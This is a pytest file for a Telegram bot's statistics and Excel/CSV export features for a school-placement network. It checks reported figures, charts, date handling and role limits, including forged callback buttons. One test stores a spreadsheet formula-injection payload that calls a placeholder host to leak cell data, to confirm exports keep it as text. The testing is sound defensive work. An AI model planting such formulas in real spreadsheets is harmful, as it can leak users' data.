"""/stats and /export on a generated year of a 60-school, 400-student network.

Every figure is checked against what the generation did (tests/datagen.py `Truth`), the chart
images are decoded, and the access rules are tried with forged buttons.
"""

from __future__ import annotations

import csv
import io
import shutil
import warnings
import zipfile
from datetime import datetime
from pathlib import Path

import numpy as np
import pytest
from aiogram.utils.i18n import I18n
from babel.numbers import format_decimal
from matplotlib import image
from openpyxl import load_workbook

from bot.cli import main
from bot.workers.charts import render
from db import Database
from db.domain.reports import ReportScope, academic_year
from handlers.reports.callbacks import ReportCb
from handlers.reports.texts import report_charts
from tests.datagen import Network
from tests.fake_telegram import FakeTelegram, FakeUser
from tests.harness import ChatDriver

LAST_YEAR = "2025/2026"


@pytest.fixture
def db_path(tmp_path: Path, network_template: tuple[Path, Network]) -> Path:
    target = tmp_path / "seriktes.db"
    shutil.copyfile(network_template[0], target)
    return target


@pytest.fixture
def network(network_template: tuple[Path, Network]) -> Network:
    return network_template[1]


def n(value: float, locale: str) -> str:
    return str(format_decimal(round(value), format="#,##0", locale=locale))


async def person(db: Database, telegram_id: int, locale: str) -> FakeUser:
    user = await db.users.by_telegram_id(telegram_id)
    assert user is not None
    await db.users.set_locale(user.id, locale)
    return FakeUser(telegram_id, user.full_name.split()[0], language_code=locale)


def png_size(content: bytes) -> tuple[int, int]:
    assert content.startswith(b"\x89PNG\r\n\x1a\n"), "not a PNG"
    return int.from_bytes(content[16:20], "big"), int.from_bytes(content[20:24], "big")


def decoded(content: bytes) -> np.ndarray:
    return image.imread(io.BytesIO(content), format="png")


def last_text(telegram: FakeTelegram, user: FakeUser) -> str:
    """The latest summary the bot sent or edited for `user` (the students' feedback on schools
    and the charts come after it)."""
    return next(m.text for m in reversed(telegram.bot_messages(user.id)) if "📊" in (m.text or ""))


def album(telegram: FakeTelegram) -> list[bytes]:
    [request] = telegram.calls("sendMediaGroup")
    return [content for _name, content in request.files.values()]


async def test_coordinator_sees_the_year_as_it_happened(
    chat: ChatDriver, db: Database, network: Network, i18n: I18n
) -> None:
    truth = network.truth
    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "ru")
    menu = await chat.send(coordinator, "/stats")
    assert "🏫" in " ".join(menu.button_labels())  # may narrow to one organization
    await chat.press(coordinator, LAST_YEAR)
    text = menu.body  # the menu became the summary, the charts follow it
    assert f"Направлено на практику студентов: {n(len(truth.placed), 'ru')}" in text
    assert f"{n(truth.students - len(truth.placed), 'ru')} из {n(truth.students, 'ru')}" in text
    assert f"Посещений: {n(truth.visits, 'ru')}" in text
    assert f"Подтверждено: {n(truth.hours_confirmed, 'ru')} из" in text
    assert f"Ожидают подтверждения: {n(truth.hours_pending, 'ru')}" in text
    posted = sum(truth.issues_by_category.values())
    resolved = sum(truth.resolved_by_category.values())
    assert f"Отправлено: {posted} · решено: {resolved} · открыто: {truth.issues_open}" in text
    median = format_decimal(round(truth.median_resolution_days, 1), "#,##0.#", locale="ru")
    assert f"Медианное время решения: {median}" in text
    assert f"Мероприятий: {truth.events} · записей: {n(truth.registrations, 'ru')}" in text
    assert f"Пришли: {truth.attended} из {truth.marked} отмеченных" in text

    charts = album(chat.telegram)
    assert len(charts) == 6
    for content in charts:
        width, height = png_size(content)
        assert width >= 1000 and 600 <= height <= 2800  # sharp on a phone, no endless scroll
        pixels = decoded(content)
        assert pixels.std() > 0.05, "a blank chart"
    assert chat.telegram.last_bot_message(coordinator.id).photo is not None


async def test_a_director_sees_only_their_school_even_with_forged_buttons(
    chat: ChatDriver, db: Database, network: Network, i18n: I18n
) -> None:
    school = network.schools[3]
    other = network.schools[4]
    director = await person(db, network.directors[school.id].telegram_id or 0, "kk")
    menu = await chat.send(director, "/stats")
    assert not any("🏫" in label for label in menu.button_labels())
    await chat.press(director, LAST_YEAR)
    text = menu.body
    assert school.name("kk") in text
    assert f": {network.truth.approved_by_school[school.id]} (" in text
    not_theirs = i18n.gettext("• Students without a placement: {n} of {total}", locale="kk")
    assert not_theirs.split("{")[0] not in text  # the network's students are not theirs

    sent_before = len(chat.telegram.bot_messages(director.id))
    forged = ReportCb(action="period", what="stats", period="y1", org=other.id).pack()
    await chat.press_data(director, forged)
    assert chat.last_answer()["show_alert"] is True
    assert len(chat.telegram.bot_messages(director.id)) == sent_before

    await chat.send(director, "/export")
    formats = await chat.press(director, LAST_YEAR)
    excel = formats.find_button("Excel")
    assert excel is not None
    legit = ReportCb.unpack(excel["callback_data"])
    forged_export = ReportCb(**{**legit.model_dump(), "org": other.id}).pack()
    await chat.press_data(director, forged_export, formats)
    assert chat.last_answer()["show_alert"] is True
    assert chat.telegram.calls("sendDocument") == []


async def test_a_mentor_sees_their_own_students(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    mentor_id, visits = network.truth.visits_by_mentor.most_common(1)[0]
    mentor = next(m for group in network.mentors.values() for m in group if m.id == mentor_id)
    students = len(network.truth.students_by_mentor[mentor_id])
    who = await person(db, mentor.telegram_id or 0, "en")
    await chat.send(who, "/stats")
    await chat.press(who, LAST_YEAR)
    text = last_text(chat.telegram, who)
    assert "your students" in text
    assert f"Students placed: {students} (schools: 1)" in text
    assert f"Visits: {visits} ·" in text
    assert "without a placement" not in text


async def test_students_have_no_reports(chat: ChatDriver, db: Database, network: Network) -> None:
    student = await person(db, network.students[0].telegram_id or 0, "en")
    answer = await chat.send(student, "/stats")
    assert "not available for your role" in answer.body
    forged = ReportCb(action="period", what="stats", period="y1").pack()
    await chat.press_data(student, forged)
    assert chat.last_answer()["show_alert"] is True
    assert chat.telegram.calls("sendMediaGroup") == []


async def test_typed_periods_are_checked(
    chat: ChatDriver, db: Database, network: Network, i18n: I18n
) -> None:
    coordinator = await person(db, network.coordinators[1].telegram_id or 0, "ru")
    await chat.send(coordinator, "/stats")
    await chat.press(coordinator, "📅")
    backwards = await chat.send(coordinator, "31.12.2025 – 01.09.2025")
    assert "Конец периода раньше его начала" in backwards.body
    nonsense = await chat.send(coordinator, "с прошлой осени")
    two_dates = "Please send two dates, the first and the last day, e.g. 01.09.2026 – 31.12.2026."
    assert nonsense.body == i18n.gettext(two_dates, locale="ru")
    too_early = await chat.send(coordinator, "01.01.1999 – 05.01.1999")
    assert "2000" in too_early.body and "2100" in too_early.body
    await chat.send(coordinator, "01.09.2025 - 31.12.2025")
    summary = last_text(chat.telegram, coordinator)
    assert "Отчёт за 1 сент. 2025" in summary and "– 31 дек. 2025" in summary
    assert "Направлено на практику студентов:" in summary


async def test_a_director_exports_their_school_as_excel(
    chat: ChatDriver, db: Database, network: Network, tmp_path: Path, i18n: I18n
) -> None:
    school = network.schools[7]
    director = await person(db, network.directors[school.id].telegram_id or 0, "kk")
    await chat.send(director, "/export")
    await chat.press(director, LAST_YEAR)
    await chat.press(director, "Excel")
    [request] = chat.telegram.calls("sendDocument")
    name, content = next(iter(request.files.values()))
    assert name.endswith(".xlsx")
    path = tmp_path / name
    path.write_bytes(content)
    book = load_workbook(path)
    assert len(book.worksheets) == 7
    placements, issues = book.worksheets[1], book.worksheets[4]
    assert placements.title == i18n.gettext("Placements", locale="kk")
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["B"].width >= 8
    header = [cell.value for cell in placements[1]]
    school_column = header.index(i18n.gettext("School", locale="kk"))
    rows = list(placements.iter_rows(min_row=2, values_only=True))
    assert rows and {row[school_column] for row in rows} == {school.name("kk")}
    first_day = header.index(i18n.gettext("First day", locale="kk"))
    assert isinstance(rows[0][first_day], datetime)
    assert placements.cell(2, first_day + 1).number_format == "DD.MM.YYYY"
    assert issues.max_row - 1 == network.truth.issues_by_school[school.id]
    assert "✅" in chat.telegram.last_bot_message(director.id).body


async def test_a_coordinator_exports_the_network_as_csv(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
    await chat.send(coordinator, "/export")
    formats = await chat.press(coordinator, LAST_YEAR)
    excel = formats.find_button("Excel")
    assert excel is not None
    await chat.press(coordinator, "CSV", formats)
    [request] = chat.telegram.calls("sendDocument")
    _name, content = next(iter(request.files.values()))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert sorted(archive.namelist()) == sorted(
            f"{sheet}.csv"
            for sheet in (
                "organizations",
                "placements",
                "visits",
                "hours",
                "issues",
                "events",
                "attendance",
            )
        )
        visits = list(csv.reader(io.TextIOWrapper(archive.open("visits.csv"), "utf-8-sig")))
    assert visits[0][:2] == ["No.", "Date"]
    assert len(visits) - 1 == network.truth.visits

    await chat.press_data(coordinator, excel["callback_data"], formats)  # a late second tap
    assert "already" in chat.last_answer()["text"]
    assert len(chat.telegram.calls("sendDocument")) == 1


async def test_an_export_with_nothing_in_it_says_so(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
    await chat.send(coordinator, "/export")
    await chat.press(coordinator, "This month")
    answer = await chat.press(coordinator, "Excel")
    assert "nothing to export" in answer.body
    assert chat.telegram.calls("sendDocument") == []


def test_the_command_line_exports_the_whole_network(
    db_path: Path,
    network: Network,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("BOT_TOKEN", raising=False)
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\npath = "{db_path}"\n', encoding="utf-8")
    out = tmp_path / "out" / "network.xlsx"
    args = ["--config", str(config), "export", "--out", str(out), "--lang", "ru"]
    assert main([*args, "--from", "2025-09-01", "--to", "2026-08-31"]) == 0
    assert f"visits {network.truth.visits}" in capsys.readouterr().out
    book = load_workbook(out)
    assert book.sheetnames[0] == "Организации"
    assert book["Посещения"].max_row == network.truth.visits + 1

    assert main([*args, "--from", "2026-08-31", "--to", "2026-08-01"]) == 1
    assert "end_before_start" in capsys.readouterr().err
    empty = tmp_path / "empty.zip"
    assert main(["--config", str(config), "export", "--out", str(empty)]) == 1
    assert "nothing to export" in capsys.readouterr().err
    assert not empty.exists()


async def test_charts_draw_every_kazakh_letter(db: Database, network: Network, i18n: I18n) -> None:
    """Rendered here, in this process, so a missing glyph warning cannot hide in a worker."""
    report = await db.reports.build(
        ReportScope(), academic_year(db.today(), 1), {"pedagogical": 72}, "kk"
    )
    with i18n.context(), i18n.use_locale("kk"):
        charts = report_charts(report, "Есеп: 2025/2026 · бүкіл желі")
    assert {chart.title for chart in charts} >= {"Мектептер бойынша практикаға орналастыру"}
    for chart in charts:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            content = render(chart)
        assert not [w for w in caught if "Glyph" in str(w.message)], chart.title
        assert png_size(content)[0] >= 1000


async def test_a_department_official_sees_their_region(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    official = await person(db, network.department.telegram_id or 0, "en")
    region = [school for school in network.schools if school.region == "Абай облысы"]
    elsewhere = next(school for school in network.schools if school.region != "Абай облысы")
    placed = sum(network.truth.approved_by_school[school.id] for school in region)
    menu = await chat.send(official, "/stats")
    assert "Covers: Абай облысы" in menu.body
    await chat.press(official, LAST_YEAR)
    assert f"Students placed: {placed} (" in menu.body
    assert placed < len(network.truth.placed)

    forged = ReportCb(action="period", what="stats", period="y1", org=elsewhere.id).pack()
    await chat.press_data(official, forged)
    assert chat.last_answer()["show_alert"] is True
    assert "not available" in chat.last_answer()["text"]


async def test_a_department_official_picks_only_from_their_region(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    official = await person(db, network.department.telegram_id or 0, "en")
    here = next(school for school in network.schools if school.region == "Абай облысы")
    elsewhere = next(school for school in network.schools if school.region != "Абай облысы")
    await chat.send(official, "/stats")
    picker = await chat.press(official, "One organization")
    assert picker.find_button(elsewhere.name("en")) is None

    found = await chat.send(official, here.name("en"))
    assert found.find_button(here.name("en")[:40]) is not None
    not_found = await chat.send(official, elsewhere.name("en"))
    assert "Nothing found" in not_found.body


@pytest.mark.parametrize(
    ("typed", "heading"),
    [
        ("01.11 – 30.11", "Report for Nov 1, 2026 – Nov 30, 2026"),
        ("01.09 – 31.12", "Report for Sep 1, 2026 – Dec 31, 2026"),
        ("1.12 - 31.01", "Report for Dec 1, 2025 – Jan 31, 2026"),
    ],
)
async def test_periods_typed_without_years_look_back_from_today(
    chat: ChatDriver, db: Database, network: Network, typed: str, heading: str
) -> None:
    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
    await chat.send(coordinator, "/stats")
    await chat.press(coordinator, "📅")
    await chat.send(coordinator, typed)
    assert heading in last_text(chat.telegram, coordinator)


async def test_a_period_pressed_twice_is_counted_once(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
    menu = await chat.send(coordinator, "/stats")
    button = menu.find_button(LAST_YEAR)
    assert button is not None
    await chat.press_data(coordinator, button["callback_data"], menu)
    await chat.press_data(coordinator, button["callback_data"], menu)
    assert "out of date" in chat.last_answer()["text"]
    assert len(chat.telegram.calls("sendMediaGroup")) == 1
    forged = ReportCb(action="period", what="stats", period="c99991230_99991231").pack()
    await chat.press_data(coordinator, forged, menu)
    assert chat.last_answer()["show_alert"] is True


async def test_nothing_recorded_is_said_plainly(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
    menu = await chat.send(coordinator, "/stats")
    await chat.press(coordinator, "This month")
    assert "Nothing was recorded in this period" in menu.body
    assert chat.telegram.calls("sendMediaGroup") == []


async def test_a_department_narrowed_to_the_university_stays_in_its_region(
    chat: ChatDriver, db: Database, network: Network, tmp_path: Path
) -> None:
    official = await person(db, network.department.telegram_id or 0, "en")
    in_region = {s.name("en") for s in network.schools if s.region == "Абай облысы"}
    placed = sum(
        network.truth.approved_by_school[s.id] for s in network.schools if s.region == "Абай облысы"
    )
    await chat.send(official, "/export")
    await chat.press(official, "One organization")
    await chat.press(official, "Shakarim")
    await chat.press(official, LAST_YEAR)
    await chat.press(official, "Excel")
    [request] = chat.telegram.calls("sendDocument")
    _name, content = next(iter(request.files.values()))
    book = load_workbook(io.BytesIO(content))
    placements = book.worksheets[1]
    header = [cell.value for cell in placements[1]]
    school, status = header.index("School"), header.index("Status")
    rows = list(placements.iter_rows(min_row=2, values_only=True))
    assert rows and {row[school] for row in rows} <= in_region
    assert sum(1 for row in rows if row[status] == "Placed") == placed


async def test_a_mentor_exports_only_their_students(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    mentor_id = next(iter(network.truth.students_by_mentor))
    mentor = next(m for group in network.mentors.values() for m in group if m.id == mentor_id)
    who = await person(db, mentor.telegram_id or 0, "en")
    await chat.send(who, "/export")
    await chat.press(who, LAST_YEAR)
    await chat.press(who, "CSV")
    [request] = chat.telegram.calls("sendDocument")
    _name, content = next(iter(request.files.values()))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        placements = list(
            csv.DictReader(io.TextIOWrapper(archive.open("placements.csv"), "utf-8-sig"))
        )
        visits = list(csv.DictReader(io.TextIOWrapper(archive.open("visits.csv"), "utf-8-sig")))
    students = {int(row["Student No."]) for row in placements if row["Status"] == "Placed"}
    assert students == network.truth.students_by_mentor[mentor_id]
    assert len(visits) == network.truth.visits_by_mentor[mentor_id]


async def test_text_that_looks_like_a_formula_stays_text(
    chat: ChatDriver, db: Database, network: Network
) -> None:
    student = network.students[sorted(network.truth.placed)[0] - network.students[0].id]
    await db.users.rename(student.id, '=HYPERLINK("http://x.example/?"&A1,"open")')
    coordinator = await person(db, network.coordinators[0].telegram_id or 0, "en")
    for fmt in ("Excel", "CSV"):
        await chat.send(coordinator, "/export")
        await chat.press(coordinator, LAST_YEAR)
        await chat.press(coordinator, fmt)
    xlsx, zipped = (next(iter(r.files.values()))[1] for r in chat.telegram.calls("sendDocument"))
    placements = load_workbook(io.BytesIO(xlsx)).worksheets[1]
    cells = [
        c
        for row in placements.iter_rows(min_row=2)
        for c in row
        if c.value and str(c.value).startswith("=HYPER")
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        text = archive.read("placements.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in text
